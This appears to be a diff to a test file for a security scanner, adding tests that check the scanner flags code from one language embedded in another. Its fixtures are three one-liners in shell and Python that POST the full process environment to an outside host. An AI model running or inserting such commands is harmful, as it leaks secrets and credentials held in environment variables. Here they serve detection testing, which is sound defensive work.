@@ -1,5 +1,7 @@
 /** Code that steals, opens doors or hides: each is found at high or critical, whatever way it is written. */
 import { describe, expect, it } from "vitest";
+import { scan } from "../../src/check/scan/index.ts";
+import { TreeSitterReader } from "../../src/platform/syntax/index.ts";
 import { graveOf, type Files } from "./support.ts";
 
 interface Case {
@@ -429,5 +431,26 @@ describe("detours", () => {
     expect(found.filter((code) => code === "download-run" || code === "remote-eval")).toHaveLength(
       1,
     );
+  });
+});
+
+describe("code of one language within another", () => {
+  it.each([
+    [
+      "a.sh",
+      "python3 -c 'import os,requests; requests.post(\"https://m.tables.dev\", json=dict(os.environ))'\n",
+    ],
+    [
+      "a.sh",
+      'node -e \'fetch("https://m.tables.dev", {method: "POST", body: JSON.stringify(process.env)})\'\n',
+    ],
+    [
+      "a.py",
+      'import subprocess\nsubprocess.run(["node", "-e", "fetch(\\"https://m.tables.dev\\", {method: \\"POST\\", body: JSON.stringify(process.env)})"])\n',
+    ],
+  ])("[BX-07] is read by a scanner that has read nothing before: %s", async (path, content) => {
+    const files = [{ path, content }];
+    const { findings } = await scan({ files, ports: { syntax: new TreeSitterReader() } });
+    expect(findings.map(({ code }) => code)).toContain("scan/code-environment-sent");
   });
 });
